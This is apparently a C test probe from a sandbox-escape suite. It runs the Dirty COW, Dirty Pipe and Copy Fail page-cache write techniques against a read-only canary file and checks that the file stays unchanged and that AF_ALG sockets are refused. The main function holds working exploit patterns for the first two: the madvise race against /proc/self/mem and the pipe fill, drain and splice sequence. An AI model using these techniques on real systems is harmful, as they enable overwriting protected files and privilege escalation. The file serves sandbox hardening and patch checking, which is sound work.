/* ESC-12 page-cache-overwrite: three public patterns that wrote into the
 * page cache of files opened read-only, run against C-RO (never a real
 * system file): Dirty COW (CVE-2016-5195: a madvise(MADV_DONTNEED) thread
 * racing writes to /proc/self/mem at a private read-only mapping), Dirty
 * Pipe (CVE-2022-0847: splice a page of the file into a drained pipe, then
 * write to the pipe) and Copy Fail (CVE-2026-31431: an AF_ALG socket).
 * These are kernel bugs: the sandbox's part is that AF_ALG sockets are
 * refused (EPERM, with high bits in the family too) and that the file
 * stays the same, which the program checks and the harness too (H2). The
 * kernel's version is in a note: this doubles as a patch-level check. */
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <time.h>

static char path[512];
static char original[4096];
static ssize_t original_len;
static void *map;
static volatile int stop;

static ssize_t read_file(char *buf, size_t size)
{
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, size);
	close(fd);
	return n;
}

static void check(const char *how)
{
	char now[4096];
	ssize_t n = read_file(now, sizeof(now));
	if (n != original_len || memcmp(now, original, (size_t)n) != 0)
		escaped("%s changed the read-only file %s", how, path);
	else
		note("%s: %s unchanged", how, path);
}

static void *advise(void *arg)
{
	(void)arg;
	while (!stop)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

static long elapsed_ms(const struct timespec *start)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (now.tv_sec - start->tv_sec) * 1000 +
	       (now.tv_nsec - start->tv_nsec) / 1000000;
}

int main(void)
{
	struct utsname u;
	uname(&u);
	note("kernel %s %s", u.release, u.version);
	snprintf(path, sizeof(path), "%s/data.txt", canary("RO"));
	original_len = read_file(original, sizeof(original));
	if (original_len <= 0) {
		note("%s: unreadable", path);
		return 1;
	}
	TRY("payoff-open-rw", open(path, O_RDWR));
	char other[600];
	snprintf(other, sizeof(other), "%s/writable-looking", canary("RO"));
	TRY("payoff-open-rw-mode-0666", open(other, O_RDWR));

	/* Dirty COW: 200 ms of the race; the writes land in our private
	 * copy of the page, never in the file */
	int fd = open(path, O_RDONLY);
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	int mem = (int)TRY("dirtycow-open-proc-self-mem-rw",
			   open("/proc/self/mem", O_RDWR));
	pthread_t t;
	pthread_create(&t, NULL, advise, NULL);
	struct timespec start;
	clock_gettime(CLOCK_MONOTONIC, &start);
	long writes = 0, r = -1;
	int e = 0;
	while (mem >= 0 && elapsed_ms(&start) < 200) {
		errno = 0;
		r = pwrite(mem, "PWNED", 5, (off_t)(uintptr_t)map);
		e = errno;
		if (r > 0)
			writes++;
	}
	stop = 1;
	pthread_join(t, NULL);
	if (mem >= 0) {
		report("dirtycow-proc-self-mem-write", writes ? 0 : r, e);
		note("%ld writes to the private mapping", writes);
		close(mem);
	}
	munmap(map, 4096);
	check("dirty cow");

	/* Dirty Pipe: fill and drain the pipe (every buffer gets
	 * PIPE_BUF_FLAG_CAN_MERGE on a vulnerable kernel), splice one byte of
	 * the file, write after it */
	int p[2];
	pipe(p);
	int size = fcntl(p[1], F_GETPIPE_SZ);
	static char page[4096];
	for (int left = size; left > 0; left -= (int)sizeof(page))
		write(p[1], page, sizeof(page));
	for (int left = size; left > 0; left -= (int)sizeof(page))
		read(p[0], page, sizeof(page));
	loff_t off = 0;
	TRY("dirtypipe-splice", splice(fd, &off, p[1], NULL, 1, 0));
	TRY("dirtypipe-write", write(p[1], "PWNED", 5));
	close(p[0]);
	close(p[1]);
	close(fd);
	check("dirty pipe");

	/* Copy Fail: the AF_ALG socket it needs */
	TRY("payoff-socket-af-alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
	TRY("payoff-socket-af-alg-highbits",
	    syscall(SYS_socket, (1UL << 32) | AF_ALG, SOCK_SEQPACKET, 0));
	TRY("payoff-socketpair-af-alg",
	    socketpair(AF_ALG, SOCK_SEQPACKET, 0, p));
	check("copy fail");
	done();
	return 0;
}
